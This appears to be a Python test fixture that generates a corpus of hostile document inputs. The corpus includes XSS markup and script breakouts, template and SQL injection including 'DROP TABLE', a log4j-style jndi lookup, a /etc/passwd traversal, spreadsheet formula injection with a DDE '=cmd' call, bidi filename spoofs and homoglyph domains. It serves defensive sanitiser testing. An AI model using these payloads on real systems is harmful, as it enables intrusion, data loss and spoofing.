"""What might a hostile document hold? More than two hundred texts: markup, scripts, formulas, directions, unseen and look-alike characters."""

CANARY = 'http://127.0.0.1:9/canary'
TAGS = ['img', 'svg', 'iframe', 'script', 'video', 'audio', 'object', 'embed', 'body', 'input', 'form', 'link', 'meta', 'base', 'style', 'math',
        'template', 'details', 'marquee', 'textarea', 'title', 'noscript', 'plaintext', 'xmp']
EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter']
WRAPS = ['{}', '">{}', "'>{}", '</textarea>{}', '</title>{}', '</script>{}', '<!--{}-->', '--><!--{}', '`}}{}{{`', ']]>{}']

markup = [form for i, tag in enumerate(TAGS) for form in (
    f'<{tag} src={CANARY} href={CANARY}>',
    f'<{tag} {EVENTS[i % 7]}=fetch("{CANARY}") autofocus>',
    f'<{tag}/src="javascript:hit()">',
    f'<{tag.upper()}\t{EVENTS[(i + 3) % 7].upper()}="hit()" style="background:url({CANARY})">')]
scripts = [wrap.format(inner) for wrap in WRAPS for inner in (
    '<script>hit()</script>', '<svg><script href="data:text/javascript,hit()"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=hit()>', '<a href="javascript:hit()">x</a>',
    '<svg><animate onbegin=hit() attributeName=x dur=1s>', '<iframe srcdoc="<script>hit()</script>"></iframe>')]
templates = ['{{7*7}}', '${hit()}', '#{7*7}', '<%= 7*7 %>', '{%raw%}', '&lt;script&gt;', '&#60;img src=x onerror=hit()&#62;', '\\u003cscript\\u003e',
             '%3Cscript%3E', 'javascript:hit()', 'data:text/html,<script>hit()</script>', '__proto__', "'; DROP TABLE claims; --", '%s%n%x',
             '${jndi:ldap://127.0.0.1:9/a}', '../../etc/passwd', '\\', '"', '<' * 400, '"' * 400]
formulas = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1)', '\t=1', '\uff1d1+1', '=HYPERLINK("' + CANARY + '")']
# With the reason that is told of each.
bidi = [text for code in (0x202D, 0x202E, 0x202A, 0x202B, 0x2066, 0x2067, 0x2068) for text in (
    f'\u0642\u062a\u0644 {chr(code)}12', f'\u0628\u064a\u0627\u0646 {chr(code)}gpj.exe')]
unseen = [f'\u0642\u0635\u0641{chr(code)}\u062a' for code in (1, 7, 0x1B, 0x7F, 0x85, 0x9B, 0x2060, 0x206A, 0xFFF9, 0xE0041)]
confusable = ['p\u0430ypal.com', 'g\u03bfv.sy', '\u0441\u043e\u0440\u0435.com', '\uff42bc', 'x\U0001d41ay', '\u0628\u064a\u06cc', '\u0643\u0648\u06a9',
              '1\u0663', '\u0664\u06f4', 'r\u0435uters']

SPOOFS = [('TXT-BIDI', text) for text in bidi] + [('TXT-CONTROL', text) for text in unseen] + [('TXT-CONFUSABLE', text) for text in confusable]
PAYLOADS = markup + scripts + templates + formulas + [text for _, text in SPOOFS]
assert len(set(PAYLOADS)) == len(PAYLOADS) > 200
